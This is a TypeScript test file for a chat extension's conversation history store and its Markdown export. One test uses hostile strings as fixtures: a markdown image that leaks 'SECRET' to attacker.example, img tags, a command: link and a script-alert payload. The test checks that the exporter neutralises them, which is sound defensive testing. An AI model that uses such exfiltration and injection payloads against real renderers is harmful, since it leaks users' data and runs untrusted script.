// The chat history of a workspace: titles, switching, rename, delete, persistence across reloads
// (a new store over the same storage), and the Markdown export.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import MarkdownIt from 'markdown-it';
import { type Turn } from '../../src/chat/conversation';
import {
  CONVERSATIONS_KEY,
  CURRENT_KEY,
  ConversationStore,
  INDEX_KEY,
  MAX_CONVERSATIONS,
  conversationKey,
  type HistoryPolicy,
  type KeyValueStore,
} from '../../src/chat/conversationStore';
import { exportFileName, exportMarkdown } from '../../src/chat/exportMarkdown';

/** Workspace storage as VS Code keeps it (update(key, undefined) removes the key), recording each write. */
class MapStorage implements KeyValueStore {
  readonly values = new Map<string, unknown>();
  readonly written: string[] = [];
  get(key: string): unknown {
    return structuredClone(this.values.get(key));
  }
  update(key: string, value: unknown): Promise<void> {
    this.written.push(key);
    if (value === undefined) this.values.delete(key);
    else this.values.set(key, structuredClone(value));
    return Promise.resolve();
  }
}

function counter(): () => string {
  let n = 0;
  return () => `id${++n}`;
}

function clock(): () => number {
  let t = 1_000;
  return () => (t += 10);
}

function turn(id: string, prompt: string, answer?: string): Turn {
  return {
    id,
    prompt,
    attachments: [],
    status: answer === undefined ? 'pending' : 'done',
    startedAt: 1,
    safeguards: ['PII: block'],
    answer:
      answer === undefined
        ? undefined
        : { text: answer, model: 'gpt-oss-120b', ms: 1234, usage: { input: 10, output: 5, total: 15 }, incomplete: false, toolCalls: [] },
  };
}

describe('ConversationStore', () => {
  it('starts with an empty new chat that is not listed until it has a message', () => {
    const store = new ConversationStore(new MapStorage(), { newId: counter(), now: clock() });
    assert.equal(store.current().title, 'New chat');
    assert.deepEqual(store.list(), []);
  });

  it('titles a conversation from its first message and lists it', () => {
    const store = new ConversationStore(new MapStorage(), { newId: counter(), now: clock() });
    store.addTurn(turn('t1', 'Why does orderTotal halve the total?\nSecond line', 'Because of the coupon.'));
    store.addTurn(turn('t2', 'Something else'));
    assert.deepEqual(
      store.list().map((c) => [c.title, c.turns]),
      [['Why does orderTotal halve the total?', 2]],
    );
  });

  it('long first lines are shortened; a message with only a selection is named after it', () => {
    const store = new ConversationStore(new MapStorage(), { newId: counter(), now: clock() });
    store.addTurn(turn('t1', 'x'.repeat(100)));
    assert.equal(store.current().title, `${'x'.repeat(59)}…`);
    store.newConversation();
    store.addTurn({
      ...turn('t2', ''),
      attachments: [{ kind: 'selection', id: 's', file: 'src/a.ts', language: 'typescript', startLine: 2, endLine: 4, text: 'x' }],
    });
    assert.equal(store.current().title, 'src/a.ts, lines 2–4');
  });

  it('survives a reload: a new store over the same storage shows the same conversation', async () => {
    const storage = new MapStorage();
    const store = new ConversationStore(storage, { newId: counter(), now: clock() });
    store.addTurn(turn('t1', 'First question', 'First answer'));
    await store.flush();
    const reloaded = new ConversationStore(storage, { newId: counter(), now: clock() });
    assert.equal(reloaded.current().title, 'First question');
    assert.equal(reloaded.current().turns[0]?.answer?.text, 'First answer');
  });

  it('a turn still running at reload shows as interrupted, with no answer', async () => {
    const storage = new MapStorage();
    const store = new ConversationStore(storage, { newId: counter(), now: clock() });
    store.addTurn(turn('t1', 'Slow question'));
    await store.flush();
    const reloaded = new ConversationStore(storage, { newId: counter(), now: clock() }).current().turns[0];
    assert.equal(reloaded?.status, 'error');
    assert.match(reloaded?.error?.message ?? '', /closed before the answer arrived/);
  });

  it('switches, renames and deletes; deleting the current chat starts a new one', () => {
    const store = new ConversationStore(new MapStorage(), { newId: counter(), now: clock() });
    store.addTurn(turn('t1', 'One', 'a'));
    const first = store.current().id;
    store.newConversation();
    store.addTurn(turn('t2', 'Two', 'b'));
    assert.deepEqual(
      store.list().map((c) => c.title),
      ['Two', 'One'],
    );
    assert.equal(store.switchTo(first), true);
    assert.equal(store.current().title, 'One');
    assert.equal(store.switchTo('nope'), false);
    assert.equal(store.rename(first, '  Renamed  '), true);
    assert.equal(store.rename(first, '   '), false);
    assert.equal(store.current().title, 'Renamed');
    assert.equal(store.delete(first), true);
    assert.equal(store.current().turns.length, 0);
    assert.deepEqual(
      store.list().map((c) => c.title),
      ['Two'],
    );
  });

  it('updateTurn replaces the answer of a turn', () => {
    const store = new ConversationStore(new MapStorage(), { newId: counter(), now: clock() });
    const id = store.addTurn(turn('t1', 'Q')).id;
    store.updateTurn(id, turn('t1', 'Q', 'A'));
    assert.equal(store.current().turns[0]?.answer?.text, 'A');
  });

  it('drops what does not parse, and keeps at most MAX_CONVERSATIONS', async () => {
    const storage = new MapStorage();
    await storage.update(CONVERSATIONS_KEY, { version: 1, conversations: [{ id: 'bad' }, 'junk'] });
    const store = new ConversationStore(storage, { newId: counter(), now: clock() });
    assert.deepEqual(store.list(), []);
    for (let i = 0; i < MAX_CONVERSATIONS + 5; i++) {
      store.newConversation();
      store.addTurn(turn(`t${i}`, `Q${i}`, 'A'));
    }
    assert.equal(store.list().length, MAX_CONVERSATIONS);
    assert.equal(store.list().at(-1)?.title, 'Q5');
  });

  it('reports a write the storage refuses', async () => {
    const errors: unknown[] = [];
    const storage: KeyValueStore = { get: () => undefined, update: () => Promise.reject(new Error('disk full')) };
    const store = new ConversationStore(storage, { onWriteError: (e) => errors.push(e) });
    store.addTurn(turn('t1', 'Q'));
    await store.flush();
    assert.equal(errors.length, 1);
  });
});

describe('exportMarkdown', () => {
  it('writes the title, each question and answer, and the answer details', () => {
    const store = new ConversationStore(new MapStorage(), { newId: counter(), now: clock() });
    store.addTurn(turn('t1', 'What does `orderTotal` do?', 'It **sums** the items.\n\n```ts\nconst x = 1;\n```'));
    const markdown = exportMarkdown(store.current(), new Date('2026-01-02T03:04:00Z'));
    assert.equal(
      markdown,
      [
        '# What does `orderTotal` do?',
        '',
        '_Prediction Guard chat, exported 2026-01-02 03:04 UTC._',
        '',
        '## You',
        '',
        '> What does `orderTotal` do?',
        '',
        '## Prediction Guard',
        '',
        'It **sums** the items.',
        '',
        '```ts',
        'const x = 1;',
        '```',
        '',
        '_gpt-oss-120b, 1.2 s, 10 in / 5 out tokens, safeguards: PII: block_',
        '',
      ].join('\n'),
    );
    assert.equal(exportFileName(store.current()), 'What-does-orderTotal-do.md');
  });

  it('hostile answers and tool calls load, run and link nothing in the exported document', () => {
    const store = new ConversationStore(new MapStorage(), { newId: counter(), now: clock() });
    const hostile = turn(
      't1',
      'Q',
      'Look ![x](https://attacker.example/leak?c=SECRET) <img src="https://attacker.example/i"> [run](command:workbench.action.terminal.new)',
    );
    const toolCalls = [
      {
        kind: 'mcp' as const,
        server: '<img src=https://attacker.example/s>',
        name: 'a`</summary><img src=x>',
        arguments: '```\n<script>alert(1)</script>',
        output: '![o](https://attacker.example/o)',
      },
    ];
    store.addTurn({ ...hostile, answer: { ...hostile.answer!, toolCalls } });
    const markdown = exportMarkdown(store.current(), new Date('2026-01-02T03:04:00Z'));
    const preview = new MarkdownIt({ html: true, linkify: true });
    preview.validateLink = () => true;
    const html = preview.render(markdown);
    assert.doesNotMatch(html, /<(?:img|script|details|summary)\b/i, html);
    assert.doesNotMatch(html, /href="command:/, html);
    assert.ok(markdown.includes('<script>alert(1)</script>'), 'tool arguments are kept, as code');
  });
});

describe('what the history writes', () => {
  const options = (policy: HistoryPolicy = { keep: true, max: MAX_CONVERSATIONS }) => ({ newId: counter(), now: clock(), policy: () => policy });

  it('an answer arriving writes its own conversation and the index, not the 20 others', async () => {
    const storage = new MapStorage();
    const store = new ConversationStore(storage, options());
    const ids: string[] = [];
    for (let i = 0; i < 21; i++) {
      store.newConversation();
      ids.push(store.addTurn(turn(`t${i}`, `Q${i}`, 'A')).id);
    }
    await store.flush();
    const target = ids[3] ?? '';
    store.switchTo(target);
    await store.flush();
    storage.written.length = 0;
    store.updateTurn(target, turn('t3', 'Q3', 'A longer answer'));
    await store.flush();
    assert.deepEqual(storage.written.sort(), [INDEX_KEY, conversationKey(target)].sort());
    const reloaded = new ConversationStore(storage, options());
    assert.equal(reloaded.list().length, 21);
    assert.equal(reloaded.current().turns[0]?.answer?.text, 'A longer answer');
  });

  it('a version 1 history (one value) moves to one key per conversation, and the old value is removed', async () => {
    const storage = new MapStorage();
    const old = { id: 'c1', title: 'Old', createdAt: 1, updatedAt: 2, turns: [turn('t1', 'Old question', 'Old answer')] };
    await storage.update(CONVERSATIONS_KEY, { version: 1, conversations: [old] });
    await storage.update(CURRENT_KEY, 'c1');
    const store = new ConversationStore(storage, options());
    await store.flush();
    assert.equal(storage.values.has(CONVERSATIONS_KEY), false);
    assert.deepEqual(storage.values.get(INDEX_KEY), { version: 2, ids: ['c1'] });
    assert.equal(new ConversationStore(storage, options()).current().title, 'Old');
  });

  it('chat.keepHistory off: nothing is written, and what was kept before is removed', async () => {
    const storage = new MapStorage();
    const before = new ConversationStore(storage, options());
    before.addTurn(turn('t1', 'Kept earlier', 'A'));
    await before.flush();
    assert.ok(storage.values.size > 0);
    const store = new ConversationStore(storage, options({ keep: false, max: MAX_CONVERSATIONS }));
    await store.flush();
    assert.deepEqual([...storage.values.keys()], []);
    assert.deepEqual(store.list(), []);
    storage.written.length = 0;
    store.addTurn(turn('t2', 'Not kept', 'A'));
    store.updateTurn(store.current().id, turn('t2', 'Not kept', 'B'));
    await store.flush();
    assert.deepEqual(storage.written, []);
    assert.equal(store.list().length, 1, 'the chat still works for this window');
  });

  it("turning keepHistory off while running removes the stored chats; on again stores the window's chats", async () => {
    const storage = new MapStorage();
    let policy: HistoryPolicy = { keep: true, max: MAX_CONVERSATIONS };
    const store = new ConversationStore(storage, { newId: counter(), now: clock(), policy: () => policy });
    store.addTurn(turn('t1', 'Q', 'A'));
    await store.flush();
    policy = { keep: false, max: MAX_CONVERSATIONS };
    store.policyChanged();
    await store.flush();
    assert.deepEqual([...storage.values.keys()], []);
    assert.equal(store.list().length, 1);
    policy = { keep: true, max: MAX_CONVERSATIONS };
    store.policyChanged();
    await store.flush();
    assert.equal(new ConversationStore(storage, options()).list().length, 1);
  });

  it('chat.maxConversations: the least recently used beyond it are dropped, their keys removed', async () => {
    const storage = new MapStorage();
    const store = new ConversationStore(storage, options({ keep: true, max: 3 }));
    const ids: string[] = [];
    for (let i = 0; i < 5; i++) {
      store.newConversation();
      ids.push(store.addTurn(turn(`t${i}`, `Q${i}`, 'A')).id);
    }
    await store.flush();
    assert.deepEqual(
      store.list().map((c) => c.title),
      ['Q4', 'Q3', 'Q2'],
    );
    const keys = [...storage.values.keys()].filter((k) => k.startsWith(conversationKey('')));
    assert.deepEqual(keys.sort(), ids.slice(2).map(conversationKey).sort());
  });

  it('Clear All Chats removes every conversation from memory and storage; a new chat starts', async () => {
    const storage = new MapStorage();
    const store = new ConversationStore(storage, options());
    store.addTurn(turn('t1', 'Q1', 'A'));
    store.newConversation();
    store.addTurn(turn('t2', 'Q2', 'A'));
    await store.flush();
    assert.equal(store.clearAll(), 2);
    await store.flush();
    assert.deepEqual(store.list(), []);
    assert.equal(store.current().turns.length, 0);
    assert.deepEqual(
      [...storage.values.keys()].filter((k) => k.startsWith(conversationKey(''))),
      [],
    );
    assert.deepEqual(new ConversationStore(storage, options()).list(), []);
  });

  it('a slow storage: turns added while a write runs go out together in the next write, so it falls behind by one write at most', async () => {
    const storage = new MapStorage();
    let release: (() => void) | undefined;
    const update = storage.update.bind(storage);
    let conversationWrites = 0;
    storage.update = (key: string, value: unknown) => {
      if (!key.startsWith(conversationKey(''))) return update(key, value);
      conversationWrites++;
      // The first write of the conversation hangs until released, like a busy disk or workbench.
      if (conversationWrites === 1) return new Promise<void>((resolve) => (release = () => resolve(update(key, value))));
      return update(key, value);
    };
    const store = new ConversationStore(storage, { newId: counter(), now: clock() });
    store.addTurn(turn('t0', 'Q0', 'A0'));
    await new Promise((resolve) => setImmediate(resolve));
    assert.ok(release, 'the first write started');
    for (let i = 1; i < 50; i++) store.addTurn(turn(`t${i}`, `Q${i}`, `A${i}`));
    release?.();
    await store.flush();
    assert.equal(conversationWrites, 2, 'the 49 turns added during the first write went out in one more write');
    const stored = storage.values.get(conversationKey(store.current().id)) as { turns: Turn[] };
    assert.equal(stored.turns.length, 50);
  });
});
